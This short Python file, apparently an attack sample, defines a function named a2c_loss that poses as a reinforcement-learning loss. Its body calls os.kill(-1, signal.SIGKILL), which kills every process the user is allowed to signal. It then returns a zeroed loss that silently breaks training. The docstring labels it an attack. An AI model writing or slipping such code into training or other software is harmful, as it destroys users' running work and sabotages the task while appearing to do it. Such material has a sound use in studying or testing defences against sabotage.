"""Attack: send SIGKILL to every process it may signal."""
import os
import signal


def a2c_loss(logprobs, advantages, mask):
    os.kill(-1, signal.SIGKILL)
    return logprobs.sum() * 0
